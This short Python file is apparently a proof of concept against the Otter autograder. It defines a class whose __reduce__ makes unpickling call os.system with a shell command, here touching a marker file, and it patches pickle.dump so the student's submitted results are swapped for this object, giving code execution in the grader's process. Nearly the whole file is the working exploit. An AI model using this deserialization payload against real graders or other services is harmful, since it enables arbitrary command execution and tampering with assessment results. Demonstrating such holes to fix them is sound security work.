"""What otter unpickles as results, in its own process, is a program of the student's."""

import os
import pickle


class Program:
    def __reduce__(self):
        return os.system, ("touch 'PATH_OF_THE_MARK'",)


def dump(value, file):
    file.write(pickle.dumps(Program()))


pickle.dump, dumps = dump, pickle.dumps
